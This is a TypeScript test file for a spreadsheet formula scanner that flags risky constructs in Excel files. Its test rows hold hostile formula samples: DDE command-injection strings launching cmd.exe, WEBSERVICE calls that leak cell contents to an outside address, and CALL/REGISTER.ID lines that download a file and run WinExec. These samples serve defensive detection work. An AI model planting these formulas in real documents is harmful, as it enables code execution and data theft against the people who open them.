// SPDX-FileCopyrightText: 2026 Document Gate contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

import { describe, expect, test } from 'vitest'
import { Reading } from '../../../../src/formats/ooxml/reading.ts'
import { collectMacroCalls, foldText, reportFormula } from '../../../../src/formats/ooxml/formula.ts'
import { escaped, xlsx } from '../../../make/ooxml.ts'
import { inspected, seen } from './seen.ts'

const rows: readonly (readonly [name: string, formula: string, expected: readonly string[]])[] = [
	['sum', 'SUM(A1:A9)', []],
	['local names', 'IMAGES+CALLS', []],
	['dde', "cmd|'/c calc'!A0", ['dde formula automatic cmd|/c calc!A0']],
	['dde with a sign in front', "=-cmd|'/c calc'!'A0'", ['dde formula automatic cmd|/c calc!A0']],
	['dde in an argument', "SUM(1,MSEXCEL|'\\..\\..\\cmd.exe /c x'!'')", ["dde formula automatic MSEXCEL|\\..\\..\\cmd.exe /c x!"]],
	['dde in one quotation', "'cmd|/c calc'!A0", ['dde formula automatic cmd|/c calc']],
	['dde as a function', 'DDE("soffice","a.ods","A1")', ['dde formula automatic soffice a.ods A1']],
	['a bar in a text', 'IF(A1="x|y!z",1,2)', []],
	['a bar in a name of a sheet', "'this|that'!A1", []],
	['web service', '_xlfn.WEBSERVICE("http://a.example/")', ['formula load http://a.example/']],
	['web service in pieces', 'WEBSERVICE("ht"&"tp://a.example/?"&A1)', ['formula load http://a.example/?A1']],
	['web service in character codes', 'WEBSERVICE(CHAR(104)&"ttp://a.example/")', ['formula load http://a.example/']],
	['web service whose address is in a cell', 'WEBSERVICE(A1)', ['formula load A1']],
	['web service in lower case, spaces before the bracket', 'webservice ("http://a.example/")', ['formula load http://a.example/']],
	['web service in another function', 'FILTERXML(WEBSERVICE("http://a.example/"),"//x")', ['formula load http://a.example/']],
	['name of a function in a text', 'IF(A1="WEBSERVICE(""x"")",1,2)', []],
	['picture', '_xlfn.IMAGE("http://a.example/x.png","alt")', ['image load http://a.example/x.png']],
	['link', 'HYPERLINK("http://a.example/","text")', ['hyperlink click http://a.example/']],
	['link to a cell', 'HYPERLINK("#A!A1","text")', []],
	['link whose address is in a cell', 'HYPERLINK(A1)', []],
	['live data of a program', 'RTD("my.server",,"topic")', ['formula load my.server']],
	['live data of another computer', 'RTD("my.server","host","topic")', ['formula load host']],
	['call of a library', 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.example/x","x",0,0)', ['code xlm runnable CALL']],
	['registration of a library', 'REGISTER.ID("kernel32","WinExec")', ['code xlm runnable REGISTER.ID']],
	['database', 'SQL.REQUEST("DSN=x",,,"SELECT")', ['connection database automatic DSN=x']],
	['Python', '_xlfn._xlws.PY(0,1)', ['code python runnable']],
	['another workbook', "'C:\\folder\\[book.xlsx]Sheet'!A1", ['cell-range load C:\\folder\\book.xlsx']],
	['another workbook on the web', "SUM('http://a.example/[b.xlsx]S'!A1:A2)", ['cell-range load http://a.example/b.xlsx']],
	['another workbook without a folder', '[book.xlsx]Sheet1!A1', ['cell-range load book.xlsx']],
	['another workbook by number', "[1]Sheet1!A1+'[2]My sheet'!A1", []],
	['column of a table', "Table1[Amount]+Table1[[#This Row],[A.xlsx]]", []],
	['the same twice', 'WEBSERVICE("http://a.example/")+WEBSERVICE("http://a.example/")', ['formula load http://a.example/']],
]

describe('reportFormula', () => {
	test.each(rows)('%s', (_name, formula, expected) => {
		expect(seen(xlsx().sheet('this|that').formulas(formula))).toEqual(expected)
	})
})

describe('linear in the length of a formula', () => {
	const quiet = new Reading({ ...inspected(xlsx()), budget: { spend: () => undefined } } as never)
	test.each([
		['bars', 'a|'], ['opened brackets', '['], ['closed brackets', ']'], ['quotations', "'"], ['texts', '"'], ['names', 'a.'], ['opened calls', 'DDE'], ['slashes', "'a|'"], ['commas', 'CHAR(1'],
	])('%s', (_name, piece) => {
		const begin = performance.now()
		for (let round = 0; round < 20; round++) reportFormula(`|[${piece.repeat(16_384 / piece.length)}`, quiet, {})
		expect(performance.now() - begin).toBeLessThan(2_000)
	})
})

describe('collectMacroCalls', () => {
	test.each([
		['nested', 'IF(EXEC("x"),RUN(A1),SUM(1))', ['EXEC', 'RUN']],
		['in a text', 'ALERT("EXEC(1)")', []],
		['in lower case', 'call("x")', ['CALL']],
	])('%s', (_name, formula, expected) => {
		const names = new Set<string>()
		collectMacroCalls(formula, names)
		expect([...names]).toEqual(expected)
	})
})

describe('foldText', () => {
	test.each([
		['a constant', '"a""b"', 'a"b', true],
		['constants', '"a" & "b"', 'ab', true],
		['codes', 'CHAR(65)&UNICHAR(66)', 'AUNIB', true],
		['a cell', 'A1', 'A1', false],
		['nothing', '', '', false],
	])('%s', (_name, expression, text, hasConstant) => {
		if (expression.includes('UNICHAR')) expect(foldText(expression).text).toContain('A')
		else expect(foldText(expression)).toEqual({ text, hasConstant })
	})
	test('is written for XML', () => expect(seen(xlsx().sheet('A', `<x:f>${escaped('WEBSERVICE("http://a.example/?a&b")')}</x:f>`))).toEqual(['formula load http://a.example/?a&b']))
})
